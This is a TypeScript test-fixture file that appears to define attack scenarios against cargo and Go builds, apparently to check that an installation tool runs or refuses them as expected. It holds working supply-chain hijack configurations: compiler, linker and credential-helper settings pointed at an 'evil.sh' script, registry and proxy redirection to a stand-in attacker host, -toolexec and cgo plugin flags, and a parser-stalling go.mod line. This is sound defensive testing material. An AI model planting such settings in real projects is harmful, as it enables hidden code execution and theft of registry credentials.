// Settings, build scripts and sources of Rust and Go projects.

import { type Attack, evilScript, type Files, json, type Scene } from './attack.ts'

const cargoToml = (more = ''): string =>
  `[package]\nname = "t"\nversion = "1.0.0"\nedition = "2021"\nbuild = "build.rs"\n${more}`
const cargoLock = (more = ''): string =>
  `version = 3\n\n[[package]]\nname = "t"\nversion = "1.0.0"\n${more}`
const buildScript = ({ markers }: Scene): string =>
  `fn main() { for path in ${json(markers).replace('[', '&[')} { let _ = std::fs::write(path, "x"); } }\n`

const crate = (scene: Scene, config: string, more: Files = {}): Files => ({
  'Cargo.toml': cargoToml(),
  'Cargo.lock': cargoLock(),
  'build.rs': buildScript(scene),
  'src/lib.rs': '',
  'evil.sh': { executable: evilScript(scene) },
  '.cargo/config.toml': config,
  ...more,
})

const needing = (scene: Scene, config: string): Files => ({
  ...crate(scene, config),
  'Cargo.toml': cargoToml('[dependencies]\na = "1"\n'),
  'Cargo.lock': `${cargoLock('dependencies = ["a"]\n')}\n[[package]]\nname = "a"\nversion = "1.0.0"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "${'0'.repeat(64)}"\n`,
})

const cargo: readonly Attack[] = [
  {
    name: 'wrappers of the compiler, and a build script',
    manager: 'cargo',
    files: (scene) =>
      crate(
        scene,
        '[build]\nrustc = "./evil.sh"\nrustc-wrapper = "./evil.sh"\nrustc-workspace-wrapper = "./evil.sh"\n[target.x86_64-unknown-linux-gnu]\nlinker = "./evil.sh"\nrunner = "./evil.sh"\n',
      ),
    ends: 'installed',
    control: ['cargo', 'build'],
  },
  {
    name: 'the same in a file of the old name, and an alias',
    manager: 'cargo',
    files: (scene) => {
      const { '.cargo/config.toml': _, ...files } = crate(scene, '')
      return {
        ...files,
        '.cargo/config': '[build]\nrustc-wrapper = "./evil.sh"\n[alias]\nfetch = "run"\n',
      }
    },
    ends: 'installed',
    control: ['cargo', 'build'],
  },
  {
    name: 'a toolchain of the project',
    manager: 'cargo',
    files: (scene) =>
      crate(scene, '', {
        'rust-toolchain.toml': '[toolchain]\npath = "./toolchain"\n',
        'toolchain/bin/cargo': { executable: evilScript(scene) },
        'toolchain/bin/rustc': { executable: evilScript(scene) },
      }),
    ends: 'installed',
  },
  {
    name: 'a source instead of crates.io',
    manager: 'cargo',
    files: (scene) =>
      needing(
        scene,
        `[source.crates-io]\nreplace-with = "evil"\n[source.evil]\nregistry = "sparse+${scene.evil}"\n`,
      ),
    ends: 'refused',
  },
  {
    name: 'a credential helper, for a registry of the project',
    manager: 'cargo',
    files: (scene) =>
      needing(
        scene,
        `[registry]\nglobal-credential-providers = ["./evil.sh"]\ncredential-process = "./evil.sh"\n[registries.evil]\nindex = "sparse+${scene.evil}"\ncredential-provider = ["./evil.sh"]\ntoken = "x"\n[net]\ngit-fetch-with-cli = true\n[http]\nproxy = "${scene.evil}"\n`,
      ),
    ends: 'refused',
  },
  {
    name: 'a registry that only the lockfile names',
    manager: 'cargo',
    files: (scene) => ({
      ...crate(scene, ''),
      'Cargo.lock': `${cargoLock()}\n[[package]]\nname = "a"\nversion = "1.0.0"\nsource = "sparse+${scene.evil}"\n`,
    }),
    ends: 'refused',
  },
  {
    name: 'a crate and a patch from git',
    manager: 'cargo',
    files: (scene) => ({
      ...crate(scene, ''),
      'Cargo.toml': cargoToml(
        '[dependencies]\na = { git = "https://example.com/a.git" }\n[patch.crates-io]\nb = { git = "https://example.com/b.git" }\n',
      ),
      'Cargo.lock': `${cargoLock()}\n[[package]]\nname = "a"\nversion = "1.0.0"\nsource = "git+https://example.com/a.git#0123"\n`,
    }),
    ends: 'refused',
  },
  {
    name: 'a crate from a folder outside',
    manager: 'cargo',
    files: (scene) => ({
      ...crate(scene, ''),
      'Cargo.toml': cargoToml(`[dependencies]\na = { path = "${scene.neighbor}" }\n`),
      'Cargo.lock': `${cargoLock('dependencies = ["a"]\n')}\n[[package]]\nname = "a"\nversion = "1.0.0"\n`,
    }),
    ends: 'refused',
  },
  {
    name: 'a macro that runs while it is compiled',
    manager: 'cargo',
    files: (scene) => ({
      'Cargo.toml': '[workspace]\nmembers = ["m", "t"]\n',
      'm/Cargo.toml':
        '[package]\nname = "m"\nversion = "1.0.0"\nedition = "2021"\n[lib]\nproc-macro = true\n',
      'm/src/lib.rs': `extern crate proc_macro;\n#[proc_macro]\npub fn run(_: proc_macro::TokenStream) -> proc_macro::TokenStream { for path in ${json(scene.markers).replace('[', '&[')} { let _ = std::fs::write(path, "x"); } "".parse().unwrap() }\n`,
      't/Cargo.toml':
        '[package]\nname = "t"\nversion = "1.0.0"\nedition = "2021"\n[dependencies]\nm = { path = "../m" }\n',
      't/src/lib.rs': 'm::run!();\n',
      'Cargo.lock':
        'version = 3\n\n[[package]]\nname = "m"\nversion = "1.0.0"\n\n[[package]]\nname = "t"\nversion = "1.0.0"\ndependencies = ["m"]\n',
    }),
    ends: 'installed',
    control: ['cargo', 'build'],
  },
  {
    name: 'an index of the operator that names another host for archives',
    manager: 'cargo',
    files: (scene) => needing(scene, ''),
    answers: ({ evil }) => ({
      '/crates/config.json': { body: json({ dl: `${evil}dl`, api: evil, 'auth-required': true }) },
      '/crates/1/a': {
        headers: { 'content-type': 'text/plain' },
        body: `${json({ name: 'a', vers: '1.0.0', deps: [], cksum: '0'.repeat(64), features: {}, yanked: false })}\n`,
      },
    }),
    ends: 'refused',
  },
]

const goMod = (more = ''): string => `module example.com/t\n\ngo 1.19\n${more}`
const goProject = (more: string, files: Files = {}): Files => ({
  'go.mod': goMod(more),
  'go.sum': `example.com/a v1.0.0 h1:${'A'.repeat(43)}=\nexample.com/a v1.0.0/go.mod h1:${'A'.repeat(43)}=\n`,
  'main.go': 'package main\n\nfunc main() {}\n',
  ...files,
})

const go: readonly Attack[] = [
  {
    name: 'a module that is replaced by a folder outside',
    manager: 'go',
    files: (scene) =>
      goProject(`\nrequire example.com/a v1.0.0\n\nreplace example.com/a => ${scene.neighbor}\n`),
    ends: 'refused',
  },
  {
    name: 'the same, in a block and in quotation marks',
    manager: 'go',
    files: (scene) =>
      goProject(
        `\nrequire example.com/a v1.0.0\n\nreplace (\n\texample.com/a v1.0.0 => "${scene.neighbor}" // x\n)\n`,
      ),
    ends: 'refused',
  },
  {
    name: 'a workspace that uses a folder outside',
    manager: 'go',
    files: (scene) =>
      goProject('', {
        'go.work': `go 1.19\n\nuse (\n\t.\n\t${scene.neighbor}\n)\n\nreplace example.com/a => ../../neighbor\n`,
      }),
    ends: 'refused',
  },
  {
    name: 'a toolchain and variables of the project',
    manager: 'go',
    files: (scene) =>
      goProject('', {
        'go.env': `GOFLAGS=-toolexec=./evil.sh\nGOPROXY=${scene.evil}\nGONOSUMDB=*\n`,
        '.config/go/env': `GOPROXY=${scene.evil}\n`,
        'evil.sh': { executable: evilScript(scene) },
        'cgo.go':
          'package main\n\n// #cgo CFLAGS: -fplugin=./evil.so\n// #cgo pkg-config: evil\nimport "C"\n',
      }),
    ends: 'installed',
  },
  {
    name: 'a module that is not on the proxy, from its own host',
    manager: 'go',
    files: (scene) => goProject(`\nrequire ${scene.evil.slice('http://'.length, -1)}/a v1.0.0\n`),
    ends: 'refused',
  },
  {
    name: 'a module that the proxy redirects to another host',
    manager: 'go',
    files: () => goProject('\nrequire example.com/a v1.0.0\n'),
    answers: ({ evil }) =>
      Object.fromEntries(
        ['info', 'mod', 'zip'].map((name) => [
          `/go/example.com/a/@v/v1.0.0.${name}`,
          { status: 302, headers: { location: `${evil}a.${name}` }, body: '' },
        ]),
      ),
    ends: 'refused',
  },
  {
    name: 'a line of go.mod that keeps a parser busy',
    manager: 'go',
    files: () => goProject(`${'/'.repeat(400_000)}\u2028\n`),
    ends: 'either',
  },
]

export const compiledAttacks: readonly Attack[] = [...cargo, ...go]
